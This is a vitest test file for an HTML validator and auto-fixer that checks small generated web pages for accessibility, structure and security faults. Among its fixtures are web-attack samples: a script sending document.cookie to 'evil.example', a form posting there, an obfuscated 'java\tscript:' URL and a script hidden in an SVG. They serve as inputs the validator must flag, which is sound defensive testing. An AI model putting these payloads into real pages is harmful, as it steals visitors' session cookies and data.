import { describe, expect, it } from 'vitest'
import type { WindowMeasurement } from '../../../contracts/page-measurement.ts'
import { markPlaces } from './measure-page.ts'
import { applyFixes, validateHtml } from './validate.ts'

const SLUGS = ['menu', 'cart', 'checkout']

function page({
  head = '',
  css = '',
  body = '<p>Hello there</p>',
}: {
  head?: string
  css?: string
  body?: string
}): string {
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Corner café</title>
<style>
html{scrollbar-width:none}
body{margin:0 auto;max-width:430px;font:16px/1.5 sans-serif}
button,input,a.button{min-height:44px;min-width:44px;font-size:16px}
${css}
</style>
${head}
</head>
<body>
${body}
</body>
</html>
`
}

function rulesOf(html: string): readonly string[] {
  return [...new Set(validateHtml(html, { slugs: SLUGS }).issues.map(({ rule }) => rule))]
}

describe('validateHtml', () => {
  it('finds nothing on a page that keeps every rule', () => {
    expect(validateHtml(page({}), { slugs: SLUGS })).toMatchObject({ passed: true, score: 100, issues: [] })
  })

  const broken: readonly (readonly [string, string, string])[] = [
    ['doctype', 'a page without a doctype', page({}).replace('<!doctype html>', '')],
    ['lang', 'a page that names no language', page({}).replace(' lang="en"', '')],
    ['title', 'a page without a title', page({}).replace('Corner café', ' ')],
    ['viewport', 'a page without a viewport', page({}).replace(/<meta name="viewport"[^>]*>/, '')],
    [
      'viewport',
      'a viewport that forbids zooming',
      page({}).replace('scale=1"', 'scale=1, user-scalable=no"'),
    ],
    ['label', 'a field with only a placeholder', page({ body: '<input placeholder="Name">' })],
    ['name', 'a button with only a drawing', page({ body: '<button><svg></svg></button>' })],
    ['alt', 'a picture without words', page({ body: '<img src="data:image/gif;base64,R0lGOD">' })],
    ['dead_link', 'a link to no page', page({ body: '<a class="button" href="nowhere.html">Go</a>' })],
    [
      'dead_link',
      'a link to no place on the page',
      page({ body: '<a class="button" href="#nowhere">Go</a>' }),
    ],
    ['duplicate_id', 'an id twice', page({ body: '<p id="a">x</p><p id="a">y</p>' })],
    ['structure', 'an element that is never closed', page({ body: '<div><p>Hello</p>' })],
    ['structure', 'an end too many', page({ body: '<p>Hello</p></section>' })],
    [
      'inline_base64',
      'an embedded file of 300 kB',
      page({ body: `<img alt="" src="data:image/png;base64,${'A'.repeat(300_000)}">` }),
    ],
    [
      'external_resource',
      'a script from elsewhere',
      page({ head: '<script src="//cdn.example/x.js"></script>' }),
    ],
    [
      'external_resource',
      'a font from elsewhere',
      page({ css: '@font-face{font-family:x;src:url(https://fonts.example/x.woff2)}' }),
    ],
    [
      'external_resource',
      'an imported sheet',
      page({ head: '<style>@import "https://fonts.example/x.css";</style>' }),
    ],
    [
      'foreign_script',
      'a script of its own',
      page({ body: '<script>fetch("https://evil.example/?" + document.cookie)</script>' }),
    ],
    ['foreign_script', 'a module', page({ head: '<script type="module" src="../other.js"></script>' })],
    [
      'foreign_script',
      'a script of a drawing under the name of ours',
      page({ body: '<svg aria-hidden="true"><script src="../app.js">alert(1)</script></svg>' }),
    ],
    ['inline_handler', 'a handler in an attribute', page({ body: '<button onclick="x()">Go</button>' })],
    [
      'javascript_url',
      'code as an address',
      page({ body: '<a class="button" href=" java\tscript:alert(1)">Go</a>' }),
    ],
    [
      'form_action',
      'a form that posts elsewhere',
      page({ body: '<form action="https://evil.example/"><button>Go</button></form>' }),
    ],
    [
      'meta_refresh',
      'a page that leaves by itself',
      page({ head: '<meta http-equiv="Refresh" content="0;url=x">' }),
    ],
  ]
  it.each(broken)('%s: finds %s', (rule, _what, html) => {
    expect(rulesOf(html)).toContain(rule)
  })

  it.each(broken)('%s: names a fix for %s', (rule, _what, html) => {
    const issue = validateHtml(html, { slugs: SLUGS }).issues.find(found => found.rule === rule)
    expect(issue?.fix?.description).toMatch(/\S/)
  })
})

describe('what only a browser can measure', () => {
  const small = page({ css: 'p{font-size:12px}' })
  const place = /<p data-place="(\d+)"/.exec(markPlaces(small))?.[1]
  const phone: WindowMeasurement = {
    width: 360,
    faults: [{ rule: 'font_size', element: Number(place), size: 12 }],
  }

  it('is named as not measured, and never guessed', () => {
    const { issues, not_measured } = validateHtml(small, { slugs: SLUGS })
    expect(issues).toEqual([])
    expect(not_measured).toEqual([
      ...['touch_target', 'font_size', 'line_height', 'contrast', 'horizontal_scroll', 'scrollbar'],
      'container_width',
    ])
    expect(validateHtml(small, { measured: [phone] }).not_measured).toEqual(['container_width'])
  })

  it('counts where it was measured, at the element of the source, with its repair', () => {
    const measured = [phone, { ...phone, width: 430 }, { width: 1024, faults: [] }]
    const { issues, passed, not_measured } = validateHtml(small, { measured })
    expect(issues).toMatchObject([{ rule: 'font_size', selector: 'body>p:nth-child(1)' }])
    expect([passed, not_measured]).toEqual([false, undefined])
    expect(applyFixes(small, issues).html).toContain('body>p:nth-child(1){font-size:16px!important}')
  })

  it('says nothing of an element that the page does not have', () => {
    const faults: WindowMeasurement['faults'] = [{ rule: 'font_size', element: 90_000, size: 12 }]
    expect(validateHtml(small, { measured: [{ width: 360, faults }] }).issues).toEqual([])
  })
})

describe('applyFixes', () => {
  it('leaves a page alone that has no issues', () => {
    expect(applyFixes(page({}), [])).toEqual({ html: page({}), applied: [], left: [] })
  })

  it('repairs what it says it applied, and applying it again changes nothing', () => {
    const html = page({
      body: `<div onclick="x()">+</div><input placeholder="Name"><img src="https://far.example/x.png">
<a class="button" href="crat.html">Cart</a><p id=a>x</p><p id=a>y</p>`,
    })
      .replace(/<meta name="viewport"[^>]*>/, '')
      .replace(' lang="en"', '')
      .replace('<!doctype html>', '')
    const { issues } = validateHtml(html, { slugs: SLUGS })
    expect(issues.length).toBeGreaterThan(7)
    const fixed = applyFixes(html, issues)
    const again = applyFixes(fixed.html, validateHtml(fixed.html, { slugs: SLUGS }).issues)
    expect(fixed.left).toEqual([])
    expect(validateHtml(again.html, { slugs: SLUGS }).issues).toEqual([])
    expect(applyFixes(again.html, []).html).toBe(again.html)
    expect(applyFixes(fixed.html, issues).html).toBe(fixed.html)
  })

  it('keeps everything else byte for byte', () => {
    const html = page({ body: '<p  class=a >Odd   spacing</p >\r\n<button  onclick="x()"  >Go</button>' })
    const fixed = applyFixes(html, validateHtml(html).issues)
    expect(fixed.html).toBe(html.replace(' onclick="x()"', ''))
  })
})
